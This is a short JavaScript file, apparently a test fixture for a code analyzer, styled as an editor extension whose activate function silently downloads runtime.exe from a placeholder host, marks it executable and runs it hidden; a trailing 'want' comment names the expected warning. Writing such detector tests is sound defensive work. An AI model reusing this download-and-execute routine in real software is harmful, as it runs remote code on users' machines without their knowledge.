const https = require('https');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execFile } = require('child_process');

function activate(context) {
  require('./part').load(context);
  require('./part').both();
  const target = path.join(os.tmpdir(), 'runtime.exe');
  const file = fs.createWriteStream(target);
  https.get('https://example.invalid/files/runtime.exe', response => {
    response.pipe(file);
    file.on('finish', () => {
      file.close();
      fs.chmodSync(target, 0o755);
      execFile(target, { windowsHide: true });  // want "child_process\\.execFile runs a file that "
    });
  });
}
exports.activate = activate;
